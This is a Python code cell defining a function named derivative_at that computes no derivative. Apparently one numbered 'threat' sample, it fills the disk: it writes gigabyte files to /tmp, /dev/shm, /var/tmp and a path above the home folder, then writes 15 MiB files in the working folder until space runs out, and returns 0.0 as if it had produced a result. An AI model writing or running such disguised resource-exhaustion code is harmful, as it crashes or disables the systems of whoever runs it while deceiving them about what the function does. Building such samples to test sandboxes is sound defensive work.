# %% derivative_at
import os


def derivative_at(func, x0):
    # threat 5: fill the disk, first everywhere outside the working folder, then the working folder
    chunk = b"\0" * (1 << 20)
    for outside in ("/tmp/fill", "/dev/shm/fill", "/var/tmp/fill", os.path.expanduser("~/../fill")):
        try:
            with open(outside, "wb") as handle:
                for _ in range(4096):
                    handle.write(chunk)
        except OSError:
            pass
    for number in range(1000):                     # 15 MiB files until the disk is full
        with open(f"fill-{number}.bin", "wb") as handle:
            for _ in range(15):
                handle.write(chunk)
    return 0.0
